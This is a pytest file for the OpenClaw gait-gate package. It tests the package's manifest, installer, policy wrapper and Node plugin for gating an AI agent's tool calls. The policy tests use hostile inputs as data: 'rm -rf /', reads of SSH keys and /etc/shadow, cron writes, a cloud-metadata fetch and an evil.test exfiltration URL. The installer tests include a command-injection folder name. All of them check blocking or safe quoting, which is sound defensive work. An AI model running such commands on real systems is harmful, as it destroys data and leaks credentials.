"""The OpenClaw package: its manifest, its installer from many sides, its wrapper, and its plugin in a real Node where there is one."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any, Iterator

import pytest

from tests.registry import sample

ROOT = Path(__file__).resolve().parent.parent.parent
SKILL = ROOT / "skills/openclaw"
# `make coverage` measures the processes that are started here, too.
MEASURED = {name: os.environ[name] for name in ("COVERAGE_PROCESS_START", "COVERAGE_FILE", "GAIT_ROOT") if name in os.environ}
INSTALLER = ROOT / "scripts/install_openclaw_skill.sh"
NODE = shutil.which("node")
EXEC = {"toolName": "exec", "params": {"command": "rm -rf /"}, "toolCallId": "c1"}
READ = {"toolName": "read", "params": {"path": "notes.txt"}, "toolCallId": "c2"}
ALLOW_ALL = "default_verdict: allow\n"


def copy_checkout(folder: Path) -> None:
    ignored = shutil.ignore_patterns("__pycache__", "*.pyc")
    shutil.copytree(ROOT / "gait", folder / "gait", ignore=ignored)
    shutil.copytree(SKILL, folder / "skills/openclaw", ignore=ignored)
    (folder / "scripts").mkdir()
    shutil.copy(ROOT / "scripts/install_openclaw_skill.sh", folder / "scripts")
    shutil.copy(ROOT / "gait.py", folder)


class Site:
    """A home, and the installer run in it."""

    def __init__(self, home: Path) -> None:
        self.home = home
        self.bin = home.parent / "bin"
        self.bin.mkdir(exist_ok=True)
        for name in ("sh", "env", "dirname", "cat", "mkdir", "cp", "rm", "sleep"):
            link = self.bin / name
            if not link.exists():
                link.symlink_to(shutil.which(name) or "")
        if not (self.bin / "python3").exists():
            (self.bin / "python3").write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
            (self.bin / "python3").chmod(0o755)
        self.env = {"HOME": str(home), "PATH": str(self.bin), "LC_ALL": "C.UTF-8", **MEASURED}

    @property
    def state(self) -> Path:
        return self.home / ".openclaw"

    @property
    def skill(self) -> Path:
        return self.state / "skills/gait-gate"

    @property
    def plugin(self) -> Path:
        return self.state / "extensions/gait-gate"

    @property
    def config(self) -> Path:
        return self.state / "openclaw.json"

    def run(self, *words: object, shell: str = "", cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
        command = [*([shell] if shell else []), str(INSTALLER), *map(str, words)]
        return subprocess.run(command, env=self.env, cwd=cwd or self.home.parent, capture_output=True, text=True, timeout=120)

    def json(self, *words: object, code: int = 0) -> dict[str, Any]:
        done = self.run(*words, "--json")
        assert done.returncode == code, done.stdout + done.stderr
        value: dict[str, Any] = json.loads(done.stdout)
        return value

    def with_cli(self, script: str) -> Path:
        """A stand-in for the openclaw command, which notes its arguments."""
        log = self.home.parent / "cli.log"
        path = self.bin / "openclaw"
        path.write_text(f'#!/bin/sh\nprintf "%s|" "$@" >> "{log}"; echo >> "{log}"\n{script}\n')
        path.chmod(0o755)
        return log


@pytest.fixture
def site(tmp_path: Path) -> Site:
    home = tmp_path / "home"
    home.mkdir()
    return Site(home)


def tree(folder: Path, compiled: bool = False) -> dict[str, tuple[int, str]]:
    """Path -> (mode, SHA-256) of everything below a folder."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.suffix == ".pyc" and not compiled:
            continue
        data = path.read_bytes() if path.is_file() else b""
        found[str(path.relative_to(folder))] = (path.lstat().st_mode & 0o7777, hashlib.sha256(data).hexdigest())
    return found


def statuses(value: dict[str, Any]) -> dict[str, str]:
    return {check["name"]: check["status"] for check in value["checks"]}


def allow_all(site: Site) -> Path:
    path = site.home.parent / "allow.yaml"
    path.write_text(ALLOW_ALL)
    return path


# --- the package as it is in the repository ------------------------------------------------------


def test_the_manifest_is_that_of_the_files() -> None:
    done = subprocess.run([sys.executable, "-I", str(ROOT / "gait.py"), "openclaw", "manifest"], capture_output=True, check=True)
    assert done.stdout == (SKILL / "skill_manifest.json").read_bytes(), "python3 -I gait.py openclaw manifest > skills/openclaw/skill_manifest.json"


def test_the_digest_is_over_sorted_lines() -> None:
    value = json.loads((SKILL / "skill_manifest.json").read_text())
    lines = sorted(f"{item['path']}:{item['sha256']}" for item in value["files"])
    assert value["package_digest"] == hashlib.sha256("\n".join(lines).encode()).hexdigest()
    assert (value["name"], value["framework"], value["signatures"]) == ("gait-gate", "openclaw", [])
    for item in value["files"]:
        assert hashlib.sha256((SKILL / item["path"]).read_bytes()).hexdigest() == item["sha256"]


def test_the_frontmatter_is_what_openclaw_takes() -> None:
    head = re.match(r"---\n(.*?)\n---\n", (SKILL / "SKILL.md").read_text(), re.DOTALL)
    assert head
    fields = dict(line.split(": ", 1) for line in head[1].splitlines())
    assert fields["name"] == "gait-gate" and re.fullmatch("[a-z0-9-]{1,64}", fields["name"])
    assert 20 < len(fields["description"]) <= 160
    assert json.loads(fields["metadata"])["openclaw"]["requires"] == {"bins": ["python3"]}


def test_the_plugin_is_small_and_has_no_dependencies() -> None:
    text = (SKILL / "plugin/index.js").read_text()
    assert len(text.splitlines()) < 200
    assert all(name.startswith("node:") for name in re.findall(r'from "([^"]+)"', text))
    assert "dependencies" not in (SKILL / "plugin/package.json").read_text()
    manifest = json.loads((SKILL / "plugin/openclaw.plugin.json").read_text())
    assert manifest["id"] == "gait-gate" and manifest["contracts"]["trustedToolPolicies"] == ["gait-gate"]


VERDICTS = [
    ("exec", {"command": "ls"}, "require_approval"),
    ("exec", {"command": "cat ~/.ssh/id_rsa"}, "block"),
    ("process", {"action": "submit", "sessionId": "x"}, "require_approval"),
    ("read", {"path": "notes.txt"}, "allow"),
    ("read", {"path": "../secret"}, "block"),
    ("read", {"path": "/etc/shadow"}, "block"),
    ("ls", {"path": "."}, "allow"),
    ("write", {"path": "a/b.txt", "content": "x"}, "allow"),
    ("write", {"path": "AGENTS.md", "content": "x"}, "block"),
    ("write", {"path": "/work/skills/gait-gate/policy.yaml", "content": "x"}, "block"),
    ("edit", {"path": "~/.openclaw/openclaw.json", "oldText": "a", "newText": "b"}, "block"),
    ("apply_patch", {"input": "*** Begin Patch\n*** Add File: hello.txt\n+a\n*** End Patch"}, "allow"),
    ("apply_patch", {"input": "*** Begin Patch\n*** Add File: /etc/cron.d/x\n+a\n*** End Patch"}, "block"),
    ("browser", {"action": "navigate", "url": "https://example.com"}, "require_approval"),
    ("web_fetch", {"url": "https://docs.python.org/3/"}, "allow"),
    ("web_fetch", {"url": "http://169.254.169.254/latest"}, "block"),
    ("web_fetch", {"url": "https://evil.test/?q=secret"}, "block"),
    ("message", {"action": "send", "to": "+1", "message": "hi"}, "require_approval"),
    ("cron", {"action": "add"}, "block"),
    ("gateway", {"action": "restart"}, "block"),
    ("session_status", {}, "allow"),
    ("tool_search", {"query": "delete"}, "allow"),
    ("probe__delete_user", {"id": 1}, "block"),
]


def test_the_policy_is_useful_for_the_tools_openclaw_has() -> None:
    sys.path.insert(0, str(ROOT))
    from gait import adapters
    from gait.gate import policy
    from gait.gate.evaluate import evaluate
    from gait.gate.matching import compile_policy

    compiled = compile_policy(policy.loads((SKILL / "policy.yaml").read_bytes(), "policy.yaml"))
    context = {"identity": "openclaw", "workspace": "/work", "risk_class": "high"}
    found = []
    for name, params, _ in VERDICTS:
        intent = adapters.to_intent("openclaw", {"toolName": name, "params": params}, context)
        found.append((name, params, evaluate(compiled, intent).verdict))
    assert found == VERDICTS


# --- the wrapper ---------------------------------------------------------------------------------


def wrapper(*words: object, call: object = EXEC, folder: Path = SKILL, **env: str) -> tuple[int, dict[str, Any]]:
    data = call if isinstance(call, str) else json.dumps(call)
    command = [sys.executable, str(folder / "gait_openclaw_gate.py"), *map(str, words)]
    done = subprocess.run(command, input=data, capture_output=True, text=True, env={**os.environ, **env}, timeout=60)
    return done.returncode, json.loads(done.stdout) if done.stdout else {}


def test_the_wrapper_answers_in_the_contract(tmp_path: Path) -> None:
    code, value = wrapper("--trace-out", tmp_path / "t.json", "--", "touch", tmp_path / "ran")
    assert code in (3, 4) and value["executed"] is False and not (tmp_path / "ran").exists()
    assert {"ok", "framework", "verdict", "reason_codes", "violations", "trace_path", "intent_digest", "policy_digest"} <= set(value)
    code, value = wrapper("--workspace", tmp_path, "--", "touch", tmp_path / "ran", call=READ)
    assert (code, value["verdict"], value["executed"], value["framework"]) == (0, "allow", True, "openclaw")
    assert (tmp_path / "ran").exists()


@pytest.mark.parametrize("call", ["", "[]", "{}", '{"toolName": "exec"}', '{"toolName": "exec", "params": []}', '{"a": 1, "a": 2}', "\x00"])
def test_the_wrapper_refuses_what_is_no_call(call: str, tmp_path: Path) -> None:
    code, value = wrapper("--", "touch", tmp_path / "ran", call=call)
    assert code in (3, 6) and value["executed"] is False and not (tmp_path / "ran").exists()


def test_the_wrapper_is_deterministic_and_has_the_contracts_usage_code(tmp_path: Path) -> None:
    answers = {json.dumps(wrapper("--trace-out", tmp_path / "t.json", SOURCE_DATE_EPOCH="1760000000")[1]) for _ in range(2)}
    assert len(answers) == 1
    assert wrapper("--polic", "x")[0] == 6
    assert wrapper("--policy", tmp_path / "none.yaml")[0] == 6


# --- the installer -------------------------------------------------------------------------------


@pytest.mark.parametrize("shell", [name for name in ("sh", "dash", "bash") if shutil.which(name)])
def test_install_twice_and_away(site: Site, shell: str) -> None:
    first = site.run("--json", shell=shutil.which(shell) or "")
    assert first.returncode == 0, first.stdout + first.stderr
    value = json.loads(first.stdout)
    assert value["result"] == "installed" and statuses(value)["canary_gate"] == "ok"
    assert json.loads(site.config.read_text()) == {"plugins": {"entries": {"gait-gate": {"enabled": True}}}}
    before = tree(site.state, compiled=True)
    second = site.json()
    assert (second["result"], second["changed"]) == ("unchanged", [])
    assert tree(site.state, compiled=True) == before
    assert site.json("--uninstall")["result"] == "uninstalled"
    assert not site.state.exists(), sorted(site.state.rglob("*"))
    assert site.json("--uninstall")["result"] == "unchanged"


def test_the_tree_and_the_json_are_byte_stable(tmp_path: Path) -> None:
    found = []
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        site = Site(tmp_path / name)
        text = json.dumps(site.json()).replace(str(site.home), "HOME")
        paths = tree(site.skill)
        assert all(mode in (0o755, 0o644, 0o600) for mode, _ in paths.values())
        for own in ("install.json", "plugin/gait-gate.json"):
            del paths[own]
        found.append((text, paths))
        for compiled in site.skill.rglob("*.pyc"):
            assert compiled.read_bytes()[4:8] == b"\x01\0\0\0", "checked against its source at each start"
    assert found[0] == found[1]


def test_the_layout_is_the_published_one(site: Site) -> None:
    site.json()
    names = sorted(name for name in tree(site.state) if "/gait/" not in name)
    assert names == [
        *("extensions", "extensions/gait-gate", "extensions/gait-gate/gait-gate.json", "extensions/gait-gate/index.js"),
        *("extensions/gait-gate/openclaw.plugin.json", "extensions/gait-gate/package.json", "openclaw.json", "skills", "skills/gait-gate"),
        *("skills/gait-gate/README.md", "skills/gait-gate/SKILL.md", "skills/gait-gate/gait", "skills/gait-gate/gait.py"),
        *("skills/gait-gate/gait_openclaw_gate.py", "skills/gait-gate/install.json", "skills/gait-gate/plugin"),
        *(f"skills/gait-gate/plugin/{name}" for name in ("gait-gate.json", "index.js", "openclaw.plugin.json", "package.json")),
        *("skills/gait-gate/policy.yaml", "skills/gait-gate/skill_config.json", "skills/gait-gate/skill_manifest.json"),
    ]
    modes = tree(site.skill)
    assert {name for name, (mode, _) in modes.items() if mode == 0o600} == {"policy.yaml", "skill_config.json", "install.json"}
    assert modes["gait_openclaw_gate.py"][0] == modes["gait.py"][0] == 0o755
    assert site.config.stat().st_mode & 0o777 == 0o600


NAMES = [
    " a b ", "it's", 'say "hi"', "new\nline", "ends in newline\n", "-dash", "--force", "$HOME`id`", "*?[a]", "é雪", "semi;colon&|", "back\\slash%s", "x" * 200,
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES, ids=lambda name: repr(name)[:24])
def test_any_folder_name_does(site: Site, name: str) -> None:
    place = site.home.parent / "t" / name
    value = site.json(f"--target-dir={place}/s", f"--plugin-dir={place}/p")
    assert statuses(value)["canary_gate"] == statuses(value)["enabled"] == "ok"
    assert json.loads(site.config.read_text())["plugins"]["load"]["paths"] == [f"{place}/p"]
    assert json.loads((place / "p/gait-gate.json").read_text())["skill_dir"] == f"{place}/s"
    site.json("--uninstall", f"--target-dir={place}/s", f"--plugin-dir={place}/p")
    assert not place.exists() and not site.state.exists()


@pytest.mark.parametrize("name", ["a b", "new\nline", "it's"])
def test_any_home_and_any_checkout_does(name: str, tmp_path: Path) -> None:
    home = tmp_path / name
    home.mkdir()
    site = Site(home)
    assert site.json()["result"] == "installed"
    checkout = home / "checkout"
    copy_checkout(checkout)
    done = subprocess.run(["sh", "./install_openclaw_skill.sh", "--json"], cwd=checkout / "scripts", env=site.env, capture_output=True, text=True)
    assert json.loads(done.stdout)["result"] == "unchanged", done.stderr


def test_a_relative_target(site: Site, tmp_path: Path) -> None:
    assert site.json("--target-dir", "here/skill", "--no-plugin")["skill_dir"] == str(tmp_path / "here/skill")


def test_edited_files_are_kept_and_force_backs_them_up(site: Site) -> None:
    site.json()
    for name in ("policy.yaml", "skill_config.json"):
        path = site.skill / name
        path.write_text(path.read_text().replace("schema_version", "schema_version") + "\n")
    value = site.json()
    assert sorted(value["kept"]) == ["policy.yaml", "skill_config.json"] and value["result"] == "unchanged"
    (site.skill / "SKILL.md").write_text("broken")
    value = site.json()
    assert sorted(value["kept"]) == ["policy.yaml", "skill_config.json"] and value["result"] == "updated"
    assert (site.skill / "policy.yaml").read_text().endswith("\n\n")
    value = site.json("--force")
    assert value["backups"] == ["policy.yaml.before-1", "skill_config.json.before-1"]
    assert (site.skill / "policy.yaml").read_bytes() == (SKILL / "policy.yaml").read_bytes()
    assert (site.skill / "policy.yaml.before-1").read_text().endswith("\n\n")
    (site.skill / "policy.yaml").write_text(ALLOW_ALL)
    assert site.json("--force")["backups"] == ["policy.yaml.before-2"]
    assert site.json()["result"] == "unchanged"
    assert {path.name for path in site.skill.glob("*.before-*")} == {"policy.yaml.before-1", "policy.yaml.before-2", "skill_config.json.before-1"}


def test_a_policy_of_ones_own(site: Site, tmp_path: Path) -> None:
    policy = tmp_path / "own.yaml"
    policy.write_text("default_verdict: require_approval\n")
    site.json("--policy", policy)
    assert (site.skill / "policy.yaml").read_text() == policy.read_text()
    assert site.json("--policy", policy)["result"] == "unchanged"
    assert site.json()["result"] == "unchanged"
    policy.write_text("default_verdict: block\n")
    assert site.json("--policy", policy)["kept"] == []
    assert (site.skill / "policy.yaml").read_text() == policy.read_text()
    (site.skill / "policy.yaml").write_text("default_verdict: block # mine\n")
    assert site.json("--policy", policy)["kept"] == ["policy.yaml"]


@pytest.mark.parametrize("text", ["default_verdict: perhaps\n", "\0", "efect: block\n"])
def test_a_policy_that_is_none_changes_nothing(site: Site, tmp_path: Path, text: str) -> None:
    (tmp_path / "bad.yaml").write_text(text)
    assert site.run("--policy", tmp_path / "bad.yaml").returncode == 6
    assert site.run("--policy", tmp_path / "missing.yaml").returncode == 6
    assert not site.state.exists()


def test_a_policy_that_allows_everything_is_not_called_proven(site: Site) -> None:
    value = site.json("--policy", allow_all(site), code=2)
    assert value["ok"] is False and statuses(value)["canary_gate"] == "fail"


def test_dry_run_changes_nothing(site: Site) -> None:
    assert site.json("--dry-run")["result"] == "would install"
    assert not site.state.exists()
    site.json()
    before = tree(site.home, compiled=True)
    assert site.json("--dry-run")["result"] == "would update"
    assert site.json("--uninstall", "--dry-run")["result"] == "would uninstall"
    assert tree(site.home, compiled=True) == before


def test_verify_finds_what_was_changed(site: Site) -> None:
    assert site.json("--verify", code=2)["ok"] is False
    site.json()
    assert site.json("--verify")["ok"] is True
    for path, damage in ((site.skill / "gait/judge.py", b"#"), (site.plugin / "index.js", b"//"), (site.skill / "more.py", b"x")):
        before = path.read_bytes() if path.exists() else None
        path.write_bytes((before or b"") + damage)
        assert site.json("--verify", code=2)["ok"] is False, path
        path.unlink() if before is None else path.write_bytes(before)
    assert site.json("--verify")["ok"] is True


def test_a_compiled_file_that_does_not_hold_its_source_is_found(site: Site) -> None:
    site.json()
    victim = next(site.skill.glob("gait/gate/__pycache__/evaluate.*.pyc"))
    other = next(site.skill.glob("gait/gate/__pycache__/trace.*.pyc"))
    victim.write_bytes(other.read_bytes())
    assert statuses(site.json("--verify", code=2))["skill"] == "fail"
    assert site.json()["result"] == "updated"
    assert site.json("--verify")["ok"] is True


def test_no_plugin(site: Site) -> None:
    value = site.json("--no-plugin")
    assert value["plugin_dir"] is None and statuses(value)["plugin"] == "warn"
    assert not site.plugin.exists() and not site.config.exists()
    site.json("--uninstall")
    assert not site.state.exists()


# --- what is in the way --------------------------------------------------------------------------


@pytest.mark.parametrize("what", ["symlink", "dangling", "file", "foreign", "home", "root", "plugin_symlink", "plugin_foreign", "nested"])
def test_a_target_that_is_not_the_installers_is_refused(site: Site, tmp_path: Path, what: str) -> None:
    target, plugin = tmp_path / "target", tmp_path / "plugin"
    (tmp_path / "elsewhere").mkdir()
    if what == "symlink":
        target.symlink_to(tmp_path / "elsewhere")
    elif what == "dangling":
        target.symlink_to(tmp_path / "nowhere")
    elif what == "file":
        target.write_text("mine")
    elif what == "foreign":
        target.mkdir()
        (target / "thesis.txt").write_text("mine")
    elif what == "plugin_symlink":
        plugin.symlink_to(tmp_path / "elsewhere")
    elif what == "plugin_foreign":
        plugin.mkdir()
        (plugin / "index.js").write_text("mine")
    target = {"home": site.home, "root": Path("/"), "nested": plugin / "in"}.get(what, target)
    before = tree(tmp_path)
    done = site.run("--target-dir", target, "--plugin-dir", plugin, "--force")
    assert done.returncode == 8, done.stdout + done.stderr
    assert tree(tmp_path) == before
    assert site.run("--uninstall", "--target-dir", target, "--plugin-dir", plugin).returncode in (0, 8)
    assert tree(tmp_path) == before


def test_an_unwritable_place(site: Site, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("in the way")
    done = site.run("--target-dir", tmp_path / "file/deep/skill")
    assert done.returncode == 1 and "file" in done.stderr
    assert site.run("--target-dir", "/proc/skill").returncode == 1
    assert site.run("--target-dir", "").returncode == 6
    assert not site.state.exists()


def test_no_home(site: Site, tmp_path: Path) -> None:
    site.env["HOME"] = ""
    assert site.run().returncode == 6
    site.env.update(OPENCLAW_STATE_DIR=str(tmp_path / "state"), GAIT_HOME=str(tmp_path / "gait"))
    assert site.json()["skill_dir"] == str(tmp_path / "state/skills/gait-gate")


def test_home_unset_uses_the_users_own(site: Site, tmp_path: Path) -> None:
    del site.env["HOME"]
    site.env["GAIT_HOME"] = str(tmp_path / "gait")
    value = site.json("--dry-run")
    assert value["skill_dir"].endswith("/.openclaw/skills/gait-gate")


@pytest.mark.parametrize("name, value, expected", [
    ("OPENCLAW_STATE_DIR", "{tmp}/s", "{tmp}/s"), ("OPENCLAW_HOME", "{tmp}/h", "{tmp}/h/.openclaw"), ("OPENCLAW_PROFILE", "work", "{home}/.openclaw-work"),
    ("OPENCLAW_PROFILE", "default", "{home}/.openclaw"),
])  # fmt: skip
def test_openclaws_own_variables(site: Site, tmp_path: Path, name: str, value: str, expected: str) -> None:
    site.env[name] = value.format(tmp=tmp_path)
    state = expected.format(tmp=tmp_path, home=site.home)
    done = site.json()
    assert done["skill_dir"] == state + "/skills/gait-gate" and done["config"] == state + "/openclaw.json"
    site.json("--uninstall")
    assert not Path(state).exists()


def test_a_profile_that_is_a_path_is_refused(site: Site) -> None:
    site.env["OPENCLAW_PROFILE"] = "../x"
    assert site.run().returncode == 6


def test_no_python(site: Site) -> None:
    (site.bin / "python3").write_text("#!/bin/sh\nexit 1\n")
    site.env["GAIT_PYTHON"] = str(site.bin / "python3")
    done = subprocess.run(["/bin/sh", "-c", f'PATH="{site.bin}"; command -v python3'], capture_output=True)
    assert done.returncode == 0
    text = INSTALLER.read_text().replace(" /usr/bin/python3;", ";")
    copy = site.home.parent / "install.sh"
    copy.write_text(text)
    done = subprocess.run(["sh", str(copy)], env=site.env, capture_output=True, text=True)
    assert done.returncode == 7 and "Python 3.9" in done.stderr


# --- openclaw.json -------------------------------------------------------------------------------

CONFIGS = {
    "compact": '{"gateway":{"port":1},"plugins":{"entries":{"other":{"enabled":true}}}}',
    "indented": '{\n  "gateway": {\n    "port": 1\n  },\n  "plugins": {\n    "entries": {}\n  }\n}\n',
    "tabs": '{\n\t"plugins": {\n\t\t"allow": ["other"]\n\t}\n}\n',
    "empty": "{}",
    "disabled": '{"plugins": {"entries": {"gait-gate": {"enabled": false}}}}',
    "unicode": '{"agents": {"name": "Zoë 雪 \\u00e9"}, "n": 1e3, "big": 12345678901234567}\n',
}


@pytest.mark.parametrize("name", CONFIGS)
def test_openclaw_json_is_changed_in_one_place_and_back(site: Site, name: str) -> None:
    site.state.mkdir()
    site.config.write_text(CONFIGS[name])
    site.config.chmod(0o640)
    site.json()
    value = json.loads(site.config.read_text())
    assert value["plugins"]["entries"]["gait-gate"]["enabled"] is True
    assert "gait-gate" in value["plugins"].get("allow", ["gait-gate"])
    assert site.config.stat().st_mode & 0o777 == 0o640
    site.json("--uninstall")
    expected = '{"plugins": {"entries": {}}}' if name == "disabled" else CONFIGS[name]
    assert site.config.read_text() == expected


@pytest.mark.parametrize("text", ["{ // mine\n  plugins: {} }", '{"a": 1,}', "{'a': 1}", '{"a": 1, "a": 2}', "", "[]", "nonsense", "\ufeff{}"])
def test_json5_is_left_alone_with_instructions(site: Site, text: str) -> None:
    site.state.mkdir()
    site.config.write_text(text)
    value = site.json(code=2)
    assert site.config.read_text() == text
    assert statuses(value)["enabled"] == "fail"
    assert any("plugins: { entries:" in warning for warning in value["warnings"])
    assert site.json("--uninstall")["warnings"]
    assert site.config.read_text() == text and not site.skill.exists()


@pytest.mark.parametrize("text", ['{"plugins": {"deny": ["gait-gate"]}}', '{"plugins": {"enabled": false}}', '{"plugins": []}'])
def test_settings_that_forbid_the_plugin_are_told(site: Site, text: str) -> None:
    site.state.mkdir()
    site.config.write_text(text)
    done = site.run("--json")
    assert done.returncode in (2, 6), done.stdout
    assert site.config.read_text() == text


def test_a_symlinked_openclaw_json_is_left_alone(site: Site, tmp_path: Path) -> None:
    site.state.mkdir()
    (tmp_path / "dotfiles.json").write_text("{}")
    site.config.symlink_to(tmp_path / "dotfiles.json")
    assert statuses(site.json(code=2))["enabled"] == "fail"
    assert (tmp_path / "dotfiles.json").read_text() == "{}"


# --- interrupted, and at once --------------------------------------------------------------------


@pytest.mark.parametrize("seconds", [0.1, 0.4, 0.8])
def test_killed_at_any_time_a_second_run_repairs(site: Site, seconds: float) -> None:
    process = subprocess.Popen([str(INSTALLER)], env=site.env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    time.sleep(seconds)
    os.killpg(process.pid, signal.SIGKILL)
    process.wait()
    value = site.json()
    assert value["ok"] is True
    assert sorted(path.name for path in (site.state / "skills").iterdir()) == ["gait-gate"]
    assert sorted(path.name for path in (site.state / "extensions").iterdir()) == ["gait-gate"]
    assert site.json()["result"] == "unchanged"


@pytest.mark.parametrize("left", ["stage", "old", "both", "only_old"])
def test_what_an_interrupted_run_leaves_is_cleared_and_edits_survive(site: Site, left: str) -> None:
    site.json()
    (site.skill / "policy.yaml").write_text("default_verdict: block # mine\n")
    folder = site.skill.parent
    if left in ("stage", "both"):
        (folder / ".gait-gate.stage/gait").mkdir(parents=True)
    if left == "both":
        shutil.copytree(site.skill, folder / ".gait-gate.old")
    if left in ("old", "only_old"):
        site.skill.rename(folder / ".gait-gate.old")
    if left == "old":
        (folder / ".gait-gate.stage").mkdir()
    value = site.json()
    assert value["ok"] is True and "policy.yaml" in value["kept"]
    assert (site.skill / "policy.yaml").read_text() == "default_verdict: block # mine\n"
    assert [path.name for path in folder.iterdir()] == ["gait-gate"]


@pytest.mark.parametrize("was_there", [False, True])
def test_a_full_disk_leaves_what_was_there(site: Site, was_there: bool) -> None:
    """As the system tells it: no file may grow beyond some kilobytes."""
    if was_there:
        site.json()
        (site.skill / "SKILL.md").write_text("edited, so that the whole folder has to be replaced")
    before = tree(site.skill)
    # -B: Python 3.9 takes a short write for a whole one, and would leave half a .pyc in the checkout.
    (site.bin / "python3").write_text(f'#!/bin/sh\nexec "{sys.executable}" -B "$@"\n')
    words = ["sh", "-c", 'ulimit -f 16; exec "$0"', str(INSTALLER)]
    env = {name: text for name, text in site.env.items() if not name.startswith("COVERAGE")}  # its own file would not fit either
    done = subprocess.run(words, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and "File too large" in done.stderr, done.stdout + done.stderr
    assert tree(site.skill) == before and site.plugin.exists() is was_there
    assert [path.name for path in (site.state / "skills").iterdir()] == (["gait-gate"] if was_there else [])
    assert site.json()["ok"] is True and site.json()["result"] == "unchanged"


def test_five_at_once(site: Site) -> None:
    runs = [subprocess.Popen([str(INSTALLER), "--json"], env=site.env, stdout=subprocess.PIPE, text=True) for _ in range(5)]
    values = [json.loads(process.communicate(timeout=120)[0]) for process in runs]
    assert all(value["ok"] for value in values)
    assert sorted(value["result"] for value in values) == ["installed", *["unchanged"] * 4]
    assert site.json("--verify")["ok"] is True


# --- with an openclaw command --------------------------------------------------------------------

# A new one copies and enables; an old one does not know the flags; a broken one fails.
COPIES = """
config="$HOME/.openclaw/openclaw.json"
case "$1 $2" in
"plugins install") mkdir -p "$HOME/.openclaw/extensions" && cp -R "$3" "$HOME/.openclaw/extensions/gait-gate"
    echo '{"plugins": {"entries": {"gait-gate": {"enabled": true}}}}' > "$config" ;;
"plugins uninstall") rm -rf "$HOME/.openclaw/extensions/gait-gate"; echo '{}' > "$config" ;;
"plugins inspect") echo 'a log line'; echo '{"plugin": {"id": "gait-gate", "status": "loaded"}}' ;;
"--version ") echo 'OpenClaw %s (abc)' ;;
esac
"""
OLD = 'for word; do case "$word" in --force|--accept-capabilities) [ "$2" = install ] && { echo "error: unknown option \'$word\'" >&2; exit 1; } ;; esac; done\n'


@pytest.mark.parametrize("version, before", [("2026.9.6", ""), ("2026.3.28", OLD)])
def test_through_the_command_with_the_flags_it_knows(site: Site, version: str, before: str) -> None:
    log = site.with_cli(before + COPIES % version)
    value = site.json()
    assert statuses(value)["loaded"] == "ok" and statuses(value)["reach"] == ("warn" if before else "ok")
    installs = [line for line in log.read_text().splitlines() if line.startswith("plugins|install")]
    assert installs[-1].endswith(f"{site.skill}/plugin|" + ("" if before else "--force|--accept-capabilities|"))
    assert site.json()["result"] == "unchanged"
    site.json("--uninstall")
    assert "plugins|uninstall|gait-gate|--force|" in log.read_text()
    assert not site.skill.exists() and not site.plugin.exists()


@pytest.mark.parametrize("script", ["exit 1", "exit 0", "echo nonsense; exit 3", "kill -9 $$"])
def test_a_command_that_fails_is_done_without(site: Site, script: str) -> None:
    site.with_cli(script)
    value = site.json(code=2)  # laid down and enabled, but the host did not say that it loads it
    assert {name: found for name, found in statuses(value).items() if found == "fail"} == {"loaded": "fail"}
    assert site.plugin.joinpath("index.js").exists() and value["warnings"]


def test_json5_through_the_command(site: Site) -> None:
    site.state.mkdir()
    text = "{ // mine\n}"
    site.config.write_text(text)
    site.with_cli('case "$1 $2" in "config get") echo true ;; *) exit 1 ;; esac')
    assert statuses(site.json(code=2))["enabled"] == "ok"
    assert site.config.read_text() == text


# --- the plan's harness ----------------------------------------------------------------------------

DRIFTS = {
    "as it is": ("skills/openclaw/SKILL.md", "---", "---", ""),
    "a file of the package is edited": ("skills/openclaw/SKILL.md", "---", "--- ", "skill_manifest.json is stale"),
    "one file more is laid down": ("gait/bridges/openclaw/install.py", "            self.changed.append(skill)\n", '            self.changed.append(skill)\n            files.write_atomic(os.path.join(self._places.state, "more.txt"), b"x")\n', "the layout has drifted"),
    "a mode is another": ("gait/bridges/openclaw/tree.py", "0o755 if name in EXECUTABLE", "0o644 if name in EXECUTABLE", "is not executable"),
    "the JSON says more": ("gait/bridges/openclaw/install.py", '"config": self.places.config}', '"config": self.places.config, "more": 1}', "the JSON has drifted"),
    "a second run changes things": ("gait/bridges/openclaw/install.py", "is_same = not self.backups", "is_same = False and not self.backups", "a second run changed something"),
    "uninstall leaves the settings": ("gait/bridges/openclaw/install.py", "if host.disable(", "if False and host.disable(", "uninstall left something"),
}


@pytest.mark.parametrize("name", DRIFTS)
def test_the_harness_finds_every_drift(name: str, tmp_path: Path) -> None:
    path, old, new, told = DRIFTS[name]
    copy_checkout(tmp_path)
    shutil.copy(ROOT / "scripts/test_openclaw_skill_install.sh", tmp_path / "scripts")
    text = (tmp_path / path).read_text()
    assert old in text
    (tmp_path / path).write_text(text.replace(old, new, 1))
    done = subprocess.run(["sh", str(tmp_path / "scripts/test_openclaw_skill_install.sh")], env={**os.environ, "PYTHON": sys.executable}, capture_output=True, text=True, timeout=120)
    assert (done.returncode, told in done.stderr) == (1 if told else 0, True), done.stdout + done.stderr


# --- the plugin, in Node -------------------------------------------------------------------------

DRIVER = """
const found = {};
const api = { on: (name, handler) => { found[name] = handler; } };
const [file, calls, mode] = process.argv.slice(2);
if (process.env.HOST_CONFIG) api.config = JSON.parse(process.env.HOST_CONFIG);
if (mode !== "hook") api.registerTrustedToolPolicy = (policy) => { found.policy = policy.evaluate; };
(await import("file://" + encodeURI(file))).default.register(api);
const out = [];
for (const [event, ctx] of JSON.parse(calls)) {
  const answer = await (mode === "hook" ? found.before_tool_call : found.policy)(event, ctx);
  out.push(answer === undefined ? "allow" : answer.block === true && answer.blockReason ? "veto: " + answer.blockReason : "odd");
  if (mode === "both") out.push((await found.before_tool_call(event, ctx)) === undefined ? "allow" : "veto");
  if (mode === "both") out.push((await found.before_tool_call({ ...event, params: { command: "changed" } }, ctx)) === undefined ? "allow" : "veto");
  if (mode === "both") found.after_tool_call({ ...event, result: { text: "x" }, durationMs: 3 }, ctx);
}
console.log(JSON.stringify(out));
"""


@pytest.fixture(scope="module")
def installed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """One installation that the tests of the plugin share; each leaves its settings as they were."""
